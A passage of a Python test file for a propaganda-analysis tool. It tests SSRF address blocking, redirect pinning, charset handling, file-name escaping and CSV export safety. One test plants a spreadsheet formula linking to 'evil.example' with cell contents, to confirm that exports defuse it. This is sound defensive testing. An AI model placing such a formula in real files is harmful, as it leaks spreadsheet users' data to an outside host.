           "224.0.0.251", "239.255.255.250", "ff02::1", "ff0e::1", "240.0.0.1", "255.255.255.255", "::ffff:10.0.0.1",
           "::ffff:127.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "2001:0:4136:e378:8000:63bf:3fff:fdd2",
           "2001:0:a00:1::1", "::7f00:1", "198.18.0.1", "192.0.0.8", "fd00::1", "fe80::1", "::", "0.0.0.0",
           "2001:db8::1", "64:ff9b:1::a00:1", "192.0.2.1", "198.51.100.7", "203.0.113.5"]


@pytest.mark.parametrize("addr", REFUSED)
def test_non_global_unicast_addresses_are_refused(monkeypatch, addr):
    stub_resolver(monkeypatch, {"news.example": [addr]})
    with pytest.raises(fetch.FetchError, match="non-public"):
        fetch.check_url("http://news.example/story")


@pytest.mark.parametrize("addr", ["8.8.8.8", "2606:4700::1111", "2002:808:808::1", "::ffff:8.8.8.8", "64:ff9b::808:808"])
def test_public_addresses_pass(monkeypatch, addr):
    stub_resolver(monkeypatch, {"news.example": [addr]})
    assert fetch.check_url("https://news.example/") == [ipaddress.ip_address(addr)]


def test_connection_goes_to_the_checked_address_not_a_rebound_one(monkeypatch):
    asked = stub_resolver(monkeypatch, {"news.example": ["8.8.8.8", "127.0.0.1"]})
    seen = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append((request.url.host, request.headers["host"], request.extensions.get("sni_hostname")))
        return httpx.Response(200, headers={"content-type": "text/plain"}, content=b"Public words.")

    got = fetch.fetch("https://news.example/a", transport=httpx.MockTransport(handler))
    assert seen == [("8.8.8.8", "news.example", b"news.example")] and asked == ["news.example"]
    assert got.url == "https://news.example/a" and got.body == b"Public words."


def test_every_redirect_hop_is_checked_and_pinned(monkeypatch):
    stub_resolver(monkeypatch, {"news.example": ["8.8.8.8"], "cdn.example": ["2606:4700::1111"],
                                "inside.example": ["100.64.3.4"]})
    seen = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append((request.url.host, request.headers["host"]))
        if request.headers["host"] == "news.example":
            return httpx.Response(302, headers={"location": "https://cdn.example:8443/b"})
        return httpx.Response(302, headers={"location": "http://inside.example/admin"})

    with pytest.raises(fetch.FetchError, match="inside.example resolves to a non-public address"):
        fetch.fetch("http://news.example/a", transport=httpx.MockTransport(handler))
    assert seen == [("8.8.8.8", "news.example"), ("2606:4700::1111", "cdn.example:8443")]


class HostEcho(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(f"Host was {self.headers['Host']}".encode())

    def log_message(self, *args):
        pass


def test_pinned_connection_keeps_the_host_header_on_a_real_socket(monkeypatch):
    """Allowed private (a test server on loopback), the name is still resolved once and pinned."""
    httpd, port = serve(HostEcho)
    asked = stub_resolver(monkeypatch, {"news.example": ["127.0.0.1", "192.0.2.1"]})
    try:
        got = fetch.fetch(f"http://news.example:{port}/x", allow_private=True, timeout=5)
    finally:
        httpd.shutdown()
    assert got.body == f"Host was news.example:{port}".encode() and asked == ["news.example"]


def test_ingest_refuses_carrier_grade_nat_urls(monkeypatch):
    stub_resolver(monkeypatch, {"cgn.example": ["100.64.0.9"]})
    [r] = read_inputs(["http://cgn.example/story"], ReadOptions())
    assert isinstance(r, Rejected) and "non-public" in r.reason


def test_reader_checks_are_the_stores_checks():
    assert ingest.check_article(Article("a" * 513, "x")) and not ingest.check_article(Article("a" * 512, "x"))


# -- CSV for spreadsheets ---------------------------------------------------------------------
def test_csv_cells_never_open_as_spreadsheet_formulas(db_url):
    """Hostile pages can hold '=HYPERLINK(...)' or '@SUM(...)': every CSV propscope writes (span
    export, report, dashboard and search downloads) starts such a text cell with an apostrophe,
    which spreadsheets show as text; numbers, negative ones too, stay numbers."""
    from propscope import export, report
    from propscope.document import Span
    from propscope.web.views import to_csv

    text = '=HYPERLINK("http://evil.example/?"&A1,"click") says the traitors lie.'
    s = Store(db_url)
    s.add_articles([Article("@cmd", text, outlet="+evil", published=None)])

    class Marks:  # one span over the formula
        name = "m"

        def analyze_batch(self, items):
            return [Analysis(a, [Span(0, 10, "Loaded_Language", 0.9, a.text[:10])], [Sentence(0, len(a.text), 0.9)],
                             0.9, "m") for a in items]

    analyze_store(s, Marks(), sources=False)
    rows = list(__import__("csv").reader(io.StringIO("".join(export.export(s.iter_analyses(), "csv")))))
    assert rows[1][:2] == ["'@cmd", "'+evil"] and rows[1][-1] == "'=HYPERLINK"
    rep_csv = report.to_csv(report.build(s))
    assert "outlet,'+evil," in rep_csv and "top_article,'@cmd," in rep_csv and "\n=" not in rep_csv and ",=" not in rep_csv
    assert to_csv([{"title": "-2+3", "score": -0.5, "note": "\tx"}]).splitlines()[1] == "'-2+3,-0.5,'\tx"
    assert export.spreadsheet_safe("plain") == "plain" and export.spreadsheet_safe(-1) == -1


def test_a_failed_run_leaves_the_earlier_output_file_whole(tmp_path):
    """-o is written beside its target and moved into place at the end: a run that fails or is
    interrupted after opening it keeps yesterday's file, and a finished one leaves no trace."""
    from propscope.cli import _close_output, _open_output

    out = tmp_path / "report.html"
    out.write_text("yesterday's report")
    f = _open_output(str(out))
    f.write("half a new rep")  # ... and then the run dies
    assert out.read_text() == "yesterday's report"
    partial = [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]
    assert len(partial) == 1 and partial[0].name.startswith(".report.html.")  # removed at exit
    f.write("ort")
    _close_output(f, str(out))
    assert out.read_text() == "half a new report" and sorted(p.name for p in tmp_path.iterdir()) == ["report.html"]
    story = tmp_path / "story.txt"
    story.write_text("A story about a bridge. " * 10)
    r = CliRunner().invoke(main, ["export", "--format", "label-studio-config", "-o", str(out)])
    assert r.exit_code == 0 and out.read_text().startswith("<View>")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.html", "story.txt"]


@pytest.mark.parametrize("db", [":memory:", "sqlite://", "sqlite:///:memory:", "sqlite:///", "sqlite+pysqlite://",
                                "sqlite:///?foo=1"])
def test_an_in_memory_store_is_refused_not_silently_lost(tmp_path, db):
    story = tmp_path / "story.txt"
    story.write_text("A story about a bridge. " * 10)
    for args in (["ingest", str(story)], ["report"]):
        r = CliRunner().invoke(main, [*args, "--db", db])
        assert r.exit_code == 1 and "in-memory store keeps nothing" in r.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["story.txt"]


@pytest.mark.parametrize("db", ["sqlite:///file:NAME?uri=true", "sqlite:///file:sub/dir/n.db?uri=true",
                                "sqlite:///x.db?mode=memory&uri=true", "sqlite:///file:x.db", "sqlite:///x.db?cache=shared"])
def test_a_sqlite_uri_filename_is_refused_in_one_line_and_makes_nothing(tmp_path, monkeypatch, db):
    """Such URLs made a stray 'file:sub/dir' folder, or stored into another file than they named."""
    monkeypatch.chdir(tmp_path)
    for args in (["ingest", "-"], ["report"]):
        r = CliRunner().invoke(main, [*args, "--db", db], input="A story about a bridge.")
        assert r.exit_code == 1 and "SQLite URI filenames and options" in r.stderr, r.output
    assert list(tmp_path.iterdir()) == []


def test_a_store_path_with_url_characters_is_that_file(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    r = CliRunner().invoke(main, ["ingest", "-", "--db", "a?b%41#c.db"], input="A story about a bridge.")
    assert r.exit_code == 0, r.output
    assert {p.name.split(".db")[0] for p in tmp_path.iterdir()} == {"a?b%41#c"}  # with its -wal, -shm
    assert Store("a?b%41#c.db").count_articles() == 1
    assert CliRunner().invoke(main, ["report", "--db", "a?b%41#c.db"]).exit_code == 0


def test_two_exports_numbering_their_rows_alike_are_named_not_silently_merged(tmp_path):
    one, two = tmp_path / "one.csv", tmp_path / "two.csv"
    one.write_text("id,text\n1,The harbour closed today.\n2,The bridge opened today.\n")
    two.write_text("id,text\n1,A different story about trains.\n2,The bridge opened today.\n")
    db = str(tmp_path / "s.db")
    r = CliRunner().invoke(main, ["ingest", str(one), str(two), "--db", db, "--format", "json"])
    assert r.exit_code == 0
    assert "kept the stored articles with ids '1'" in r.stderr and "'2'" not in r.stderr  # 2 is the same text
    assert "ids of their own" in r.stderr


def test_another_programs_sqlite_file_is_named_as_such_and_left_alone(tmp_path):
    import sqlite3

    path = tmp_path / "other.db"
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE articles (x TEXT)")
        conn.execute("INSERT INTO articles VALUES ('theirs')")
    r = CliRunner().invoke(main, ["ingest", "-", "--db", str(path)], input="A story.")
    assert r.exit_code == 1 and "another program's SQLite database (tables: articles)" in r.stderr
    r = CliRunner().invoke(main, ["ingest", "-", "--db", str(path), "--share-db"], input="A story.")
    assert r.exit_code == 1 and "another program's tables are there" in r.stderr and "Traceback" not in r.stderr
    with sqlite3.connect(path) as conn:
        assert conn.execute("SELECT x FROM articles").fetchall() == [("theirs",)]


# -- what is not a regular file, and what the machine does half-way ---------------------------
# (found by an audit run from a user's side: each of these was a hang, a traceback, a file put
# where a device was, or an input skipped in silence)
def test_a_device_given_as_an_input_is_refused_not_read_forever(tmp_path):
    """/dev/zero has no size, so the size check let it through and reading it never ended."""
    link = tmp_path / "folder" / "zero.txt"
    link.parent.mkdir()
    link.symlink_to("/dev/zero")
    (tmp_path / "folder" / "ok.txt").write_text("A story about a bridge.")
    items = list(read_inputs(["/dev/zero", str(link.parent)]))
    rejected = {i.source: i.reason for i in items if isinstance(i, Rejected)}
    assert "not a regular file" in rejected["/dev/zero"] and "not a regular file" in rejected[str(link)]
    assert [i.text for i in items if isinstance(i, Article)] == ["A story about a bridge."]


def test_a_pipe_is_read_on_its_own_and_reported_in_a_folder(tmp_path):
    """`propscope ingest <(command)` reads a pipe; inside a folder a named pipe is named, not waited on."""
    import os

    fifo = tmp_path / "folder" / "pipe.txt"
    fifo.parent.mkdir()
    os.mkfifo(fifo)
    [r] = read_inputs([str(fifo.parent)])
    assert isinstance(r, Rejected) and r.source == str(fifo) and "named pipe" in r.reason
    writer = threading.Thread(target=lambda: fifo.write_text("A story written into a pipe."))
    writer.start()
    [a] = read_inputs([str(fifo)])
    writer.join()
    assert isinstance(a, Article) and a.text == "A story written into a pipe."


def test_paths_that_cannot_be_looked_at_are_reported(tmp_path, monkeypatch):
    """A file in a folder without permission raised PermissionError from is_dir() (a traceback), and
    a subfolder that could not be listed was skipped in silence (exit 0). Permissions are faked
    here: root reads everything."""
    import os
    import pathlib

    (tmp_path / "locked").mkdir()
    (tmp_path / "locked" / "story.txt").write_text("Behind a locked door.")
    (tmp_path / "corpus" / "sub").mkdir(parents=True)
    (tmp_path / "corpus" / "a.txt").write_text("A readable story.")
    (tmp_path / "corpus" / "sub" / "b.txt").write_text("A story in a folder that cannot be listed.")
    real_stat, real_scandir = pathlib.Path.stat, os.scandir

    def stat(self, *args, **kwargs):
        if self.parent.name == "locked":
            raise PermissionError(13, "Permission denied", str(self))
        return real_stat(self, *args, **kwargs)

    def scandir(path="."):
        if os.fspath(path).endswith("sub"):
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real_scandir(path)

    monkeypatch.setattr(pathlib.Path, "stat", stat)
    monkeypatch.setattr(os, "scandir", scandir)
    items = list(read_inputs([str(tmp_path / "locked" / "story.txt"), str(tmp_path / "corpus")]))
    rejected = {i.source: i.reason for i in items if isinstance(i, Rejected)}
    assert rejected == {str(tmp_path / "locked" / "story.txt"): "cannot read: Permission denied",
                        str(tmp_path / "corpus" / "sub"): "cannot read folder: Permission denied"}
    assert [i.text for i in items if isinstance(i, Article)] == ["A readable story."]
    r = CliRunner().invoke(main, ["analyze", str(tmp_path / "locked" / "story.txt")])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit) and "cannot read: Permission denied" in r.stderr


def test_a_file_name_with_a_line_break_or_terminal_escape_is_reported_on_one_line(tmp_path):
    """Names were printed as they are: a line break split the one-line report in two, and an
    escape sequence ("\\x1b[2J") or a right-to-left override rewrote the terminal around it."""
    folder = tmp_path / "names"
    folder.mkdir()
    (folder / "two\nlines.txt").write_bytes(b"\x00\x01binary")
    (folder / "clear\x1b[2Jscreen.html").write_text("<html><body><nav></nav></body></html>")
    (folder / "fine.txt").write_text("A plain story about the harbour.")
    missing = str(tmp_path / "gone\u202etxt.exe")
    r = cli("ingest", folder, missing, "--db", f"sqlite:///{tmp_path / 's.db'}", "--format", "json")
    lines = r.stderr.strip().splitlines()
    assert r.exit_code == 1 and summary(r)["rejected"] == 3 and len(lines) == 3, lines
    assert f"skipped {folder}/two\\nlines.txt: looks binary" in r.stderr
    assert f"skipped {folder}/clear\\x1b[2Jscreen.html: no article text" in r.stderr
    assert f"skipped {tmp_path}/gone\\u202etxt.exe: no such file" in r.stderr and "\x1b" not in r.stderr


def test_compressed_files_are_named_as_such(tmp_path):
    import bz2
    import zipfile

    (tmp_path / "story.txt").write_bytes(gzip.compress(b"A story. " * 20))
    (tmp_path / "rows.csv").write_bytes(bz2.compress(b"id,text\n1,A story.\n"))
    with zipfile.ZipFile(tmp_path / "export.jsonl", "w") as z:
        z.writestr("export.jsonl", '{"id": "1", "text": "A story."}\n')
    (tmp_path / "export.jsonl.gz").write_bytes(gzip.compress(b'{"id": "1", "text": "A story."}\n'))
    (tmp_path / "notes.docx").write_bytes(b"PK\x03\x04 a Word file is a zip too")
    (tmp_path / "notes.odd").write_bytes(b"A story.")
    names = ("story.txt", "rows.csv", "export.jsonl", "export.jsonl.gz", "notes.docx", "notes.odd")
    reasons = [r.reason for r in read_inputs([str(tmp_path / n) for n in names])]
    assert reasons == ["is gzip-compressed; decompress it first (gunzip -k FILE)",
                       "is bzip2-compressed; decompress it first (bunzip2 -k FILE)",
                       "is zip-compressed; decompress it first (unzip FILE)",
                       "is gzip-compressed; decompress it first (gunzip -k FILE)",  # was "unsupported format '.gz'"
                       "unsupported format '.docx'; give .txt, .html, .jsonl, .csv, .warc, .rss or .urls",
                       "unsupported format '.odd'; give .txt, .html, .jsonl, .csv, .warc, .rss or .urls"]


def test_a_file_name_that_is_not_utf8_does_not_cost_its_text(db_url, tmp_path):
    import os

    path = os.fsencode(tmp_path) + b"/caf\xe9.txt"  # a Latin-1 name, as old archives hold them
    with open(path, "wb") as f:
        f.write(b"A story whose name is not UTF-8.")
    r = cli("ingest", tmp_path, "--db", db_url, "--format", "json")
    assert r.exit_code == 0 and summary(r)["new"] == 1
    [row] = Store(db_url).list_articles()[1]
    assert row["id"].startswith("caf\ufffd-")


def test_a_spreadsheets_empty_rows_are_blank_lines_not_rejects(tmp_path):
    """Excel writes trailing empty rows as ",,,"; each was a "record has no text" line."""
    p = tmp_path / "sheet.csv"
    p.write_text("id,text,title\n,,\n1,A story.,\n" + ",,\n" * 1000)
    assert [(type(i).__name__, getattr(i, "id", None)) for i in read_inputs([str(p)])] == [("Article", "1")]


def test_an_html_page_in_the_charset_it_declares_is_read(tmp_path, monkeypatch):
    """windows-1252 pages (saved, or served with that charset) were refused as "not UTF-8"; a page
    whose bytes are not what it declares still is, with a hint that keeps curly quotes."""
    body = "Caf\u00e9 owners said the \u201cnew\u201d rules \u2014 as written \u2014 would close them. " * 8
    page = ('<html><head><meta charset="{}"><title>Cafés</title></head><body><article><p>{}</p></article>'
            "</body></html>")
    (tmp_path / "saved.html").write_bytes(page.format("windows-1252", body).encode("cp1252"))
    (tmp_path / "liar.html").write_bytes(page.format("utf-8", body).encode("cp1252"))
    saved, liar = read_inputs([str(tmp_path / "saved.html"), str(tmp_path / "liar.html")])
    assert isinstance(saved, Article) and "\u201cnew\u201d" in saved.text
    assert isinstance(liar, Rejected) and "iconv -f windows-1252 -t utf-8" in liar.reason
    served = fetch.Fetched("https://news.example/a", "text/html; charset=ISO-8859-1",
                           page.format("x", body).replace('<meta charset="x">', "").encode("cp1252"))
    monkeypatch.setattr(fetch, "fetch", lambda url, **kw: served)
    [a] = ingest.read_url("https://news.example/a", ReadOptions())
    assert isinstance(a, Article) and "Caf\u00e9" in a.text and "\u2014" in a.text


LATIN = "Café owners said the “new” rules — as written — would close them. "
GENUINE = {  # text in the charset its page declares, Latin words glued to it as real pages have them
    "shift_jis": "政府はiPhone用アプリとWindows版を発表した。",
    "euc-jp": "東京（Tokyo）で「失敗だ」と大臣が述べた。",
    "gbk": "苹果公司发布了iPhone 15，APP下载量很高。",
    "big5": "蘋果公司發布了iPhone 15，部長說「這是失敗」。",
    "koi8-r": "Компания Apple выпустила iPhone, а Wi-Fi сети работают плохо.",
    "windows-1251": "«Это провал», — сказал министр Apple.",
    "iso-8859-7": "Η Apple κυκλοφόρησε το iPhone.",
    "iso-8859-2": "Zażółć gęślą jaźń, powiedział minister.",
    "windows-1250": "Příliš žluťoučký kůň úpěl ďábelské ódy.",
}


def _page(charset: str, body: str) -> str:
    return (f'<html><head><meta charset="{charset}"><title>T</title></head><body><article><p>{body * 8}</p>'
            "</article></body></html>")


@pytest.mark.parametrize("declared", ["shift_jis", "koi8-r", "iso-8859-2", "iso-8859-5", "big5", "euc-kr"])
def test_a_page_whose_declared_charset_lies_is_read_in_windows_1252(tmp_path, declared):
    """A template's <meta charset> over text pasted in as windows-1252: Shift JIS or Big5 refused
    it ("not valid UTF-8 nor the shift_jis it declares"), KOI8-R read "CafИ owners said the
    ⌠new■ rules", ISO-8859-2 put C1 control characters where the quotes were."""
    p = tmp_path / "liar.html"
    p.write_bytes(_page(declared, LATIN).encode("cp1252"))
    [a] = read_inputs([str(p)])
    assert isinstance(a, Article) and a.text.startswith(LATIN.strip()), a


@pytest.mark.parametrize("charset", sorted(GENUINE))
def test_a_page_in_the_charset_it_declares_stays_in_it(tmp_path, charset):
    p = tmp_path / "page.html"
    p.write_bytes(_page(charset, GENUINE[charset]).encode(charset))
    (tmp_path / "utf8.html").write_bytes(_page(charset, LATIN + GENUINE[charset]).encode("utf-8"))
    page, utf8 = read_inputs([str(p), str(tmp_path / "utf8.html")])
    assert isinstance(page, Article) and GENUINE[charset] in page.text, page
    assert isinstance(utf8, Article) and LATIN + GENUINE[charset] in utf8.text, utf8  # valid UTF-8 wins


@pytest.mark.parametrize("charset", ["iso-2022-jp", "hz"])
def test_a_page_in_a_seven_bit_charset_is_read_in_it(tmp_path, charset):
    """ISO-2022-JP (Japanese mail and old sites) and HZ are written in ASCII bytes, so they passed
    as UTF-8: the text came out as escape codes and Latin junk ("\\x1b$B@/I\\$O")."""
    body = GENUINE["gbk" if charset == "hz" else "shift_jis"]
    p = tmp_path / "page.html"
    p.write_bytes(_page(charset, body).encode(charset))
    [a] = read_inputs([str(p)])
    assert isinstance(a, Article) and body in a.text, a


def test_an_xhtml_page_declaring_its_charset_in_the_xml_declaration_is_read(tmp_path):
    """A saved XHTML page names its charset only in <?xml ... encoding="..."?>: it was "not valid UTF-8"."""
    p = tmp_path / "page.xhtml"
    page = _page("x", LATIN).replace('<meta charset="x">', "").replace("<html>", '<html xmlns="http://www.w3.org/1999/xhtml">')
    p.write_bytes(('<?xml version="1.0" encoding="windows-1252"?>\n' + page).encode("cp1252"))
    [a] = read_inputs([str(p)])
    assert isinstance(a, Article) and a.text.startswith(LATIN.strip()), a


def test_judging_a_charset_weighs_a_sample_of_a_big_page():
    """oddness and western went over the whole page in Python: a 9 MB page declaring koi8-r over
    windows-1252 bytes took 6 s to decode; they weigh its first SAMPLE characters."""
    clean = "Plain words. " * (ingest.SAMPLE // 13 + 1)
    assert ingest.oddness(clean + "CafИ ⌠new■" * 1000) == 0
    assert ingest.western(clean + "Ïðàâèòåëüñòâî " * 100_000)


def test_a_page_in_neither_its_charset_nor_windows_1252_is_still_refused(tmp_path):
    """EUC-JP bytes under a Shift JIS declaration read in windows-1252 as "¤³¤ì": refused, not stored."""
    p = tmp_path / "page.html"
    p.write_bytes(_page("shift_jis", GENUINE["euc-jp"]).encode("euc-jp"))
    [r] = read_inputs([str(p)])
    assert isinstance(r, Rejected) and "nor the shift_jis it declares" in r.reason


@pytest.mark.parametrize(("content_type", "body"), [
    ("application/pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\nstream\n\x78\x9c\x00\x01"),
    ("image/png; name=x", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
    ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", b"PK\x03\x04" + bytes(60))])
def test_a_url_answering_with_a_document_or_image_says_what_it_is(monkeypatch, content_type, body):
    """They were "looks binary (NUL bytes); give a UTF-8 text ... file" or "is zip-compressed;
    decompress it first (unzip FILE)": advice for a file, not for a URL."""
    monkeypatch.setattr(fetch, "fetch", lambda url, **kw: fetch.Fetched(url, content_type, body))
    [r] = ingest.read_url("https://news.example/a", ReadOptions())
    assert isinstance(r, Rejected) and r.reason == (f"is {content_type.split(';')[0]}, not a web page or text; "
                                                    "propscope reads HTML pages, feeds and plain text")
    served = fetch.Fetched("https://news.example/b", "application/octet-stream", b"A plain story, misconfigured.")
    monkeypatch.setattr(fetch, "fetch", lambda url, **kw: served)
    [a] = ingest.read_url("https://news.example/b", ReadOptions())
    assert isinstance(a, Article) and a.text == "A plain story, misconfigured."


def test_a_meta_charset_that_names_no_character_set_is_one_line(tmp_path):
    """A <meta charset> naming a Python codec that is no character set ("base64", "rot13",
    "undefined") was a LookupError or UnicodeError traceback on a page that is not UTF-8, which
    ended the whole run; "unicode_escape" or "utf-7" would rewrite the page's text. And a <meta>
    saying UTF-16 on a page that is not UTF-8 decoded it as UTF-16 into CJK garbage."""
    body = "Caf\u00e9 owners said the \u201cnew\u201d rules would close them. " * 8
    names = ["base64", "rot13", "hex", "zlib", "uu", "undefined", "unicode_escape", "utf-7", "utf-16"]
    for name in names:
        page = f'<html><head><meta charset="{name}"></head><body><article><p>{body}</p></article></body></html>'
        data = page.encode("cp1252")
        (tmp_path / f"{name}.html").write_bytes(data + b" " * (len(data) % 2))  # even: UTF-16 would decode it
    (tmp_path / "fine.txt").write_text("A plain story about the harbour.")
    r = cli("ingest", tmp_path, "--db", f"sqlite:///{tmp_path / 's.db'}", "--format", "json")
    assert r.exit_code == 1 and summary(r) == {"new": 1, "duplicates": 0, "rejected": len(names)}
    assert r.stderr.count("not valid UTF-8 (byte") == len(names) and "iconv -f windows-1252" in r.stderr
    assert ingest.declared_charset(b"", "text/html; charset=utf-16") == "utf-16"  # a server may mean it


@pytest.mark.parametrize("url", ["http://[::1", "http://example.com:99999/", "http://example.com:abc/"])
def test_a_url_that_cannot_be_parsed_is_one_line(db_url, tmp_path, url):
    """urlsplit raises ValueError on these: a traceback from the command line, a 500 from the web
    app, and, as a record's url, the end of the whole ingest."""
    with pytest.raises(fetch.FetchError, match="not a valid URL"):
        fetch.check_url(url)
    r = CliRunner().invoke(main, ["ingest", url, "--db", db_url])
    assert r.exit_code == 1 and "not a valid URL" in r.stderr and isinstance(r.exception, SystemExit)
    p = tmp_path / "export.jsonl"
    p.write_text(json.dumps({"id": "1", "text": "A story with a broken link.", "url": url}) + "\n"
                 + json.dumps({"id": "2", "text": "The next story."}) + "\n")
    r = cli("ingest", p, "--db", db_url, "--format", "json")
    assert r.exit_code == 0 and summary(r)["new"] == 2
    stored = Store(db_url).get_article("1")
    assert stored.url is None and stored.meta["given_url"] == url  # no web address: kept, never as a link


def test_a_report_line_leaves_out_the_middle_of_an_overlong_source_or_quoted_input(tmp_path):
    """A .urls line of 70,000 characters came back whole in its "skipped" line, and a CSV without
    a header line named its whole first line (the first article's text) as "columns"; each line
    now keeps the start and end of what it quotes, says how much it left out, and ends with what
    to do."""
    long_url = "https://" + "x" * 70_000 + ".example/"
    (tmp_path / "list.urls").write_text(long_url + "\n")
    (tmp_path / "rows.csv").write_text(("word " * 3000 + "\n") * 2)
    r = cli("ingest", tmp_path / "list.urls", tmp_path / "rows.csv", "--db", f"sqlite:///{tmp_path / 's.db'}")
    lines = r.stderr.strip().splitlines()
    assert r.exit_code == 1 and len(lines) == 2 and all(len(line) < 1500 for line in lines), [len(x) for x in lines]
    url_line, csv_line = sorted(lines, key=lambda line: "rows.csv" in line)
    assert "characters left out]" in url_line and url_line.endswith("URL too long"), url_line[-200:]
    assert "characters left out]" in csv_line and csv_line.endswith("e.g. id,title,text"), csv_line


def test_a_url_that_cannot_be_parsed_is_a_400_on_the_web(client):
    r = client.post("/api/analyze", json={"url": "http://[::1"})
    assert r.status_code == 400 and "not a valid URL" in r.json()["detail"]


def test_a_page_number_past_any_store_is_a_422_not_a_500(client):
    assert client.get("/reuse", params={"page": 10**18}).status_code == 422


def test_output_through_a_link_replaces_its_file_and_a_pipe_is_written_into(tmp_path):
    """-o is moved into place when complete; a link was replaced by a plain file, and a device or
    pipe by a file where it stood (as root, -o /dev/null replaced /dev/null)."""
    import os
    import stat

    from propscope.cli import _output_file

    real, link = tmp_path / "reports" / "today.xml", tmp_path / "latest.xml"
    real.parent.mkdir()
    real.write_text("yesterday")
    link.symlink_to(real)
    r = CliRunner().invoke(main, ["export", "--format", "label-studio-config", "-o", str(link)])
    assert r.exit_code == 0 and link.is_symlink() and real.read_text().startswith("<View>")
    assert _output_file("/dev/null") is None
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[str] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_text()))
    reader.start()
    r = CliRunner().invoke(main, ["export", "--format", "label-studio-config", "-o", str(fifo)])
    reader.join(timeout=30)
    assert r.exit_code == 0 and got and got[0].startswith("<View>") and stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["latest.xml", "pipe", "reports"]


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_full_disk_under_standard_output_is_one_line():
    import subprocess
    import sys

    with open("/dev/full", "w") as full:
        p = subprocess.run([sys.executable, "-m", "propscope.cli", "techniques"], stdout=full, stderr=subprocess.PIPE,
                           text=True, timeout=120)
    assert p.returncode == 1 and "Traceback" not in p.stderr and "Exception ignored" not in p.stderr
    assert p.stderr.strip() == "propscope: cannot write the output: No space left on device"


def test_a_closed_standard_input_or_output_is_one_line(tmp_path):
    """Started with standard input closed (<&-), `ingest -` was an AttributeError traceback
    ('NoneType' object has no attribute 'buffer'); with standard output closed (>&-) every
    command was one too, at its final flush. Each is now one line and exit status 1, and the
    store is left as it was."""
    import subprocess
    import sys

    db = tmp_path / "s.db"
    assert cli("ingest", "-", "--db", db, input="The harbour strike began on Monday.").exit_code == 0
    run = [sys.executable, "-m", "propscope.cli"]
    for args, fd, says in ((["ingest", "-", "--db", str(db)], 0, "standard input is closed"),
                           (["search", "harbour", "--db", str(db)], 1, "standard output is closed"),
                           (["techniques"], 1, "standard output is closed")):
        p = subprocess.Popen(run + args, stderr=subprocess.PIPE, text=True, preexec_fn=lambda fd=fd: os.close(fd))
        _, err = p.communicate(timeout=120)
        assert p.returncode == 1 and "Traceback" not in err and says in err, (args, err)
        assert len(err.strip().splitlines()) <= 2, err  # ingest adds its summary line
    assert len(json.loads(cli("search", "harbour", "--db", db, "--format", "json").stdout)) == 1


def test_ctrl_c_during_ingest_keeps_the_finished_batches(db_url, tmp_path, monkeypatch):
    """Ctrl-C was click's bare "Aborted!" (exit 1), which says nothing of what was stored."""
    real = ingest.read_inputs

    def interrupted(sources, opts=None):
        for n in range(1500):  # one insert batch (1,000) done, the next half read
            yield Article(f"a{n}", f"Story number {n}.")
        raise KeyboardInterrupt

    monkeypatch.setattr(ingest, "read_inputs", interrupted)
    r = CliRunner().invoke(main, ["ingest", "x", "--db", db_url])
    assert r.exit_code == 130 and "interrupted: the articles stored before it are kept" in r.stderr
    assert Store(db_url).count_articles() == 1000
    monkeypatch.setattr(ingest, "read_inputs", real)
    p = tmp_path / "all.jsonl"
    p.write_text("".join(json.dumps({"id": f"a{n}", "text": f"Story number {n}."}) + "\n" for n in range(1500)))
    r = cli("ingest", p, "--db", db_url, "--format", "json")
    assert summary(r) == {"new": 500, "duplicates": 1000, "rejected": 0}


def test_a_store_that_stops_taking_writes_is_one_line_not_one_per_article(tmp_path, monkeypatch):
    """A read-only SQLite file rejected every article on its own line, each "refused by the
    database"; analyze, reuse and topics ended in a traceback."""
    import sqlite3

    import sqlalchemy as sa

    from propscope import store as store_module

    db = str(tmp_path / "s.db")
    assert cli("ingest", "-", "--db", db, input="A stored story.").exit_code == 0

    def read_only(*args, **kwargs):
        raise sa.exc.OperationalError("INSERT", {}, sqlite3.OperationalError("attempt to write a readonly database"))

    monkeypatch.setattr(store_module.Store, "_insert_rows", read_only)
    p = tmp_path / "many.jsonl"
    p.write_text("".join(json.dumps({"id": f"n{n}", "text": f"New story {n}."}) + "\n" for n in range(50)))
    r = CliRunner().invoke(main, ["ingest", str(p), "--db", db])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit)
    assert r.stderr.splitlines() == ["propscope: cannot write to the store: OperationalError: attempt to write a "
                                     "readonly database"]
    monkeypatch.setattr(store_module.Store, "save_reuse", read_only)
    r = CliRunner().invoke(main, ["reuse", "--db", db])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit)
    assert r.stderr.splitlines()[-1] == "propscope: the store stopped this command: attempt to write a readonly database"


def _unwritable(monkeypatch, *paths: Path) -> None:
    """Make ``os.access`` say that ``paths`` cannot be written, as it does for a user without write
    permission or on read-only media (a root test process may write anything)."""
    real = os.access
    monkeypatch.setattr(os, "access", lambda p, mode, *a, **k: False if mode & os.W_OK and Path(p) in paths
                        else real(p, mode, *a, **k))


@pytest.mark.parametrize("which", ["file", "folder"])
def test_a_store_that_cannot_be_written_is_read_and_writing_commands_say_so(tmp_path, monkeypatch, which):
    """A store on read-only media could not be opened even to read ("cannot open database ...:
    attempt to write a readonly database"), for report, search and export alike."""
    import sqlalchemy as sa

    from propscope.store import StoreReadOnly

    db = tmp_path / "ro" / "s.db"
    story = "The harbour strike ended on Monday."
    s = Store(str(db))
    s.add_articles([Article("harbour", story)])
